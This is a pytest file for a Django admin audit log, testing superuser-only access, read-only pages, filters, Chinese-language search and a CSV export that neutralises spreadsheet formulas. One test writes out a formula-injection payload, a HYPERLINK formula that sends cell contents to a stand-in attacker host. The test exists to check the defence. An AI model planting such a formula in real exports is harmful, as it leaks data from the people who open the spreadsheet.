"""The record in the admin: superusers only (teachers and TAs get 403, whatever permissions they hold),
read-only, filters by kind, time, actor and account, search by name, CSV export that Excel reads in Chinese and
that never carries a formula; and the done-when of issue 21: a login, a roster import and a deactivation, with
who and when, on the record's page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from http import HTTPStatus

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from audit.kinds import Kind
from audit.models import Event
from audit.records import record
from tests.audit.conftest import only
from tests.audit.test_events import BROWSER, import_in_admin, post_action
from tests.conftest import PASSWORD

User = get_user_model()
pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:audit_event_changelist")
EXPORT = reverse("admin:audit_event_export")


def shown(response) -> list[Event]:
    return list(response.context["cl"].result_list)


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode()), "no byte-order mark: Excel would show the Chinese garbled"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


# --- who may read it -----------------------------------------------------------------------------------------
@pytest.fixture
def some_entry(student):
    return record(Kind.DEACTIVATED, subject=student)


@pytest.mark.parametrize("role", ["teacher", "ta"])
def test_teachers_and_tas_get_403_on_every_page_of_the_record(client, make_staff, some_entry, role):
    client.force_login(make_staff(f"staff-{role}", role))
    for url in (CHANGELIST, EXPORT, reverse("admin:audit_event_change", args=[some_entry.pk])):
        assert client.get(url).status_code == HTTPStatus.FORBIDDEN, url
    index = client.get(reverse("admin:index")).content.decode()
    assert CHANGELIST not in index


def test_staff_holding_every_permission_still_get_403(client, some_entry):
    hoarder = User.objects.create_user(username="hoarder", password=PASSWORD, is_staff=True)
    hoarder.user_permissions.set(Permission.objects.all())
    client.force_login(hoarder)
    assert client.get(CHANGELIST).status_code == HTTPStatus.FORBIDDEN
    assert client.get(EXPORT).status_code == HTTPStatus.FORBIDDEN
    assert not Permission.objects.filter(content_type__app_label="audit").exists()  # none exists to hand out


def test_the_record_is_read_only_even_for_a_superuser(superuser_client, some_entry):
    assert superuser_client.get(reverse("admin:audit_event_add")).status_code == HTTPStatus.FORBIDDEN
    change = reverse("admin:audit_event_change", args=[some_entry.pk])
    page = superuser_client.get(change)
    assert page.status_code == HTTPStatus.OK and 'type="submit"' not in page.content.decode().split('id="content"')[1]
    assert superuser_client.post(change, {"kind": "login"}).status_code == HTTPStatus.FORBIDDEN
    delete = reverse("admin:audit_event_delete", args=[some_entry.pk])
    assert superuser_client.post(delete, {"post": "yes"}).status_code == HTTPStatus.FORBIDDEN
    bulk = {"action": "delete_selected", ACTION_CHECKBOX_NAME: [some_entry.pk], "post": "yes"}
    superuser_client.post(CHANGELIST, bulk)
    assert Event.objects.filter(pk=some_entry.pk).exists()


# --- filters and search -------------------------------------------------------------------------------------------
@pytest.fixture
def history(staff, student):
    other = User.objects.create_user(username="lisi", first_name="李四")
    old = record(Kind.LOGIN, actor=student, subject=student)
    Event.objects.filter(pk=old.pk).update(time=timezone.now() - timedelta(days=40))
    return {
        "old_login": old,
        "deactivated": record(Kind.DEACTIVATED, actor=staff, subject=student),
        "other": record(Kind.DEACTIVATED, actor=staff, subject=other),
        "failed": record(Kind.LOGIN_FAILED, subject=other),
        "student": student,
        "other_user": other,
    }


def test_the_list_filters_by_kind_actor_account_and_time(superuser_client, staff, history):
    by_kind = shown(superuser_client.get(CHANGELIST, {"kind": Kind.DEACTIVATED}))
    assert set(by_kind) == {history["deactivated"], history["other"]}
    by_actor = shown(superuser_client.get(CHANGELIST, {"actor__id__exact": staff.pk}))
    assert set(by_actor) == {history["deactivated"], history["other"], only(Kind.LOGIN, actor=staff)}
    by_subject = shown(superuser_client.get(CHANGELIST, {"subject__id__exact": history["student"].pk}))
    assert set(by_subject) == {history["old_login"], history["deactivated"]}
    week = (timezone.localtime() - timedelta(days=7)).isoformat(sep=" ")  # as the "past 7 days" link has it
    recent = shown(superuser_client.get(CHANGELIST, {"time__gte": week}))
    assert history["old_login"] not in recent and history["failed"] in recent


def test_the_list_is_searched_by_username_and_by_real_name(superuser_client, history):
    assert set(shown(superuser_client.get(CHANGELIST, {"q": "李四"}))) == {history["other"], history["failed"]}
    assert history["deactivated"] in shown(superuser_client.get(CHANGELIST, {"q": "student9"}))


def test_the_list_shows_chinese_labels_and_links_each_name_to_its_entries(superuser_client, staff, history):
    page = superuser_client.get(CHANGELIST, headers={"Accept-Language": "zh-hans"}).content.decode()
    assert "停用账号" in page and "操作记录" in page
    assert f"?actor__id__exact={staff.pk}" in page and f"?subject__id__exact={history['student'].pk}" in page


# --- CSV ----------------------------------------------------------------------------------------------------------
def test_the_csv_holds_what_the_filtered_list_shows_with_a_bom_and_chinese_labels(superuser_client, history):
    response = superuser_client.get(EXPORT, {"kind": Kind.DEACTIVATED, "p": "7"})
    assert response.status_code == HTTPStatus.OK and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header[:3] == ["时间", "类型", "内容"]
    assert sorted(row[4] for row in rows) == ["lisi", "student9"]
    assert {row[1] for row in rows} == {"deactivated"} and {row[2] for row in rows} == {"停用账号"}


def test_the_list_links_to_the_csv_with_its_filters(superuser_client, history):
    page = superuser_client.get(CHANGELIST, {"kind": Kind.DEACTIVATED}).content.decode()
    assert f'href="{EXPORT}?kind=deactivated"' in page


def test_the_export_action_writes_the_selected_entries(superuser_client, history):
    data = {"action": "export_selected", ACTION_CHECKBOX_NAME: [history["failed"].pk]}
    header, *rows = read_csv(superuser_client.post(CHANGELIST, data))
    assert len(rows) == 1 and rows[0][1] == "login_failed"


def test_a_formula_typed_by_a_student_never_runs_in_the_superusers_spreadsheet(superuser_client, student):
    """The attack: a User-Agent and a name that Excel would run as formulas, sent by whoever logs in."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    User.objects.filter(pk=student.pk).update(first_name="@SUM(1+1)")
    Client(HTTP_USER_AGENT=formula).post(reverse("login"), {"username": "student9", "password": "wrong"})
    record(Kind.DELETED, subject="-2+3")  # a name as an old account might have kept it
    header, *rows = read_csv(superuser_client.get(EXPORT))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# --- done when (issue 21) ----------------------------------------------------------------------------------------
def test_the_record_shows_a_login_a_roster_import_and_a_deactivation_with_who_and_when(staff, student):
    browser = Client(**BROWSER, headers={"Accept-Language": "zh-hans"})
    login = browser.post(reverse("admin:login"), {"username": "teacher", "password": PASSWORD, "next": "/admin/"})
    assert login.status_code == HTTPStatus.FOUND
    import_in_admin(browser)
    post_action(browser, "deactivate_users", [student], apply="1")
    page = browser.get(CHANGELIST)
    rows = {event.kind: event for event in shown(page)}
    assert {Kind.LOGIN, Kind.ROSTER_IMPORTED, Kind.DEACTIVATED} <= set(rows)
    for kind in (Kind.LOGIN, Kind.ROSTER_IMPORTED, Kind.DEACTIVATED):
        assert rows[kind].actor == staff and rows[kind].address == "198.51.100.7"
    assert rows[Kind.DEACTIVATED].subject == student
    text = page.content.decode()
    for label in ("登录成功", "导入名单", "停用账号"):
        assert label in text
    today = timezone.localtime(rows[Kind.DEACTIVATED].time).strftime("%Y-%m-%d %H:%M")
    assert today in text and "teacher" in text and "student9" in text
